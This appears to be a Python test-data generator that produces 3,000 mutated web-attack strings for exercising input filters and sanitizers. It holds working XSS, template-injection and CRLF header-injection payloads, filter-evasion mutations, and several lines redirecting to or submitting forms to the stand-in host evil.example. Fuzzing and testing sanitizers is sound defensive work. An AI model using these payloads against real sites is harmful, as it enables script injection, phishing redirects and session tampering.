"""Three thousand hostile texts: classic attacks on pages, each changed in the ways that filters fall for."""

from __future__ import annotations

from collections.abc import Callable
from itertools import islice, product
from urllib.parse import quote

ATTACKS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '" autofocus onfocus=alert(1) x="',
    "' style='background:url(javascript:alert(1))",
    "javascript:alert(1)",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</pre></code></div><form action=//evil.example><button>Stop all</button>",
    "--><script>alert(1)</script><!--",
    "<!--<img src=x onerror=alert(1)>",
    "]]><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<details open ontoggle=alert(1)>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<input type=hidden name=csrf value=stolen>",
    "<template><script>alert(1)</script></template>",
    "<x contenteditable onblur=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "\u202ealert(1)\u202c safe",
    "user\u2066 admin\u2069",
    "\u200bA\u200dd\u2060a\ufeff",
    "\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "a" * 700 + "<script>",
    "",
)
WAYS: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    str.upper,
    str.swapcase,
    lambda text: text.replace("<", "<\x00"),
    lambda text: text.replace(" ", "\t"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace("<", "\uff1c"),
    lambda text: text.replace("alert(1)", "alert`1`"),
)
ROUND: tuple[tuple[str, str], ...] = (
    ("", ""),
    ("\u202e", ""),
    ("\u2067", "\u2069"),
    ("Mira\"'", ">"),
    ("]]>", "<!["),
    ("\x1b[31m", "\x07"),
    ("&", ";"),
    ("\ud800", "\udfff"),
    ("<", ">"),
)


def hostile_texts() -> list[str]:
    """Return 3,000 different texts. Lone surrogates are made what JSON of a model would make them."""
    found = (
        (before + way(attack) + after).encode("utf-8", "replace").decode()
        for (before, after), way, attack in product(ROUND, WAYS, ATTACKS)
    )
    texts = list(dict.fromkeys(found))
    return list(islice(dict.fromkeys([*texts, *map(quote, texts)]), 3000))
